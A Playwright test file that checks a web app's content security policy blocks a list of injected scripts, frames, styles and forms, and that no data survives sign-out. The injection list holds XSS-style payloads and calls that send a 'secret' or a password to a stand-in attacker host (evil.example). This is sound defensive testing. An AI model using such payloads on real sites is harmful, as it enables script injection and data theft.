import { GUEST } from './demoUsers'
import { expect, sendSignIn, signIn, test } from './fixtures'
import { ROW } from './places'

/** Code injections that the content security policy must block; each sets `window.stolen` if it runs. */
const INTRUSIONS: readonly [what: string, directive: string, run: () => void][] = [
  ['a script in the page', 'script-src-elem', () => insert('script', { textContent: 'window.stolen = 1' })],
  ['a script from elsewhere', 'script-src-elem', () => insert('script', { src: 'https://evil.example/x.js' })],
  ['a script in an address', 'script-src-elem', () => insert('script', { src: 'data:text/javascript,window.stolen=1' })],
  ['a handler in the markup', 'script-src-attr', () => insertMarkup('<img src="/favicon.svg" onload="window.stolen = 1">')],
  ['a link to a script', 'script-src-elem', () => insert('a', { href: 'javascript:window.stolen=1' }).click()],
  // oxlint-disable-next-line typescript/no-implied-eval -- the very thing that must not work
  ['text run as code', 'script-src', () => void window.setTimeout('window.stolen = 1')],
  ['a frame', 'frame-src', () => insert('iframe', { src: 'https://evil.example/' })],
  ['a plug-in', 'object-src', () => insert('object', { data: 'https://evil.example/x.pdf' })],
  ['a picture that tells what was seen', 'img-src', () => insert('img', { src: 'https://evil.example/?secret' })],
  ['a call that tells what was seen', 'connect-src', () => void fetch('https://evil.example/?secret').catch(() => undefined)],
  ['a style from elsewhere', 'style-src-elem', () => insert('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })],
  ['a style without the nonce', 'style-src-elem', () => insert('style', { textContent: 'body { display: none }' })],
  ['another base for all addresses', 'base-uri', () => insert('base', { href: 'https://evil.example/' })],
  ['a form that sends a password away', 'form-action', () => insert('form', { action: 'https://evil.example/' }).submit()],
]

declare function insert<Tag extends keyof HTMLElementTagNameMap>(
  tag: Tag,
  properties: Partial<HTMLElementTagNameMap[Tag]>,
): HTMLElementTagNameMap[Tag]
declare function insertMarkup(markup: string): void

test('[FAULT-48] nothing injected into the page runs, loads or leaks, and no page can frame it', async ({
  page,
  appServer,
  consoleErrors,
}) => {
  const left: string[] = []
  // Requests that the policy blocks never reach this handler.
  await page.route(/evil\.example/, (route) => {
    left.push(route.request().url())
    return route.abort()
  })
  await page.goto('/login')
  await expect(page.getByLabel('Email')).toBeVisible()
  await page.evaluate(() => {
    Object.assign(window, {
      insert: (tag: string, properties: object) =>
        document.body.appendChild(Object.assign(document.createElement(tag), properties)),
      insertMarkup: (markup: string) => document.body.insertAdjacentHTML('beforeend', markup),
    })
  })
  for (const [what, directive, run] of INTRUSIONS) {
    // Run by a timer, because the policy does not apply to what the debugger itself evaluates.
    const stopped = page.evaluate(async (source) => {
      const violation = new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
        window.setTimeout(() => resolve('nothing'), 2_000)
      })
      // The functions of the list arrive as text; eval is allowed for the debugger.
      window.setTimeout((0, eval)(`(${source})`) as () => void)
      return violation
    }, run.toString())
    expect([what, await stopped]).toEqual([what, directive])
  }
  expect(await page.evaluate(() => (window as unknown as { stolen?: number }).stolen)).toBeUndefined()
  expect(left).toEqual([])
  expect(consoleErrors.length).toBeGreaterThan(0)
  expect(consoleErrors.filter((line) => !/Content Security Policy|violates the following/.test(line))).toEqual([])

  // Not even a page of its own origin.
  await page.route('**/frame-test', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${appServer.url}/login"></iframe>` }),
  )
  await page.goto('/frame-test')
  await expect(page.frameLocator('iframe').getByLabel('Email')).toHaveCount(0)
  expect(page.frames().map((frame) => frame.url())).not.toContain(`${appServer.url}/login`)
  consoleErrors.length = 0
})

test('after sign-out no data comes back, by Back, by a reload or for the next user', async ({ page }) => {
  await signIn(page)
  // Gives the history a page of the app to go back to.
  await page.goto('/')
  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible()
  await page.goto('/shipments')
  const first = page.locator(ROW).first()
  await expect(first).toBeVisible()
  const shipmentNbr = (await first.getAttribute('data-id')) ?? 'none'
  await page.getByRole('button', { name: 'Sign out' }).click()
  await expect(page).toHaveURL(/\/login$/)
  for (const way of ['back', 'reload'] as const) {
    await (way === 'back' ? page.goBack() : page.reload())
    await expect(page.getByLabel('Email')).toBeVisible()
    await expect(page.getByText(shipmentNbr)).toHaveCount(0)
  }
  await sendSignIn(page, GUEST)
  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible()
  await page.goto('/shipments')
  await expect(page.getByText("You don't have permission to view shipments.")).toBeVisible()
  await expect(page.getByText(shipmentNbr)).toHaveCount(0)
  const kept = await page.evaluate(async () => [
    JSON.stringify({ ...localStorage, ...sessionStorage }),
    document.cookie,
    String((await caches.keys()).length),
    String((await indexedDB.databases()).length),
  ])
  expect(kept.slice(1)).toEqual(['', '0', '0'])
  expect(kept[0]).not.toMatch(new RegExp(`eyJ|${shipmentNbr}|demo@`))
})
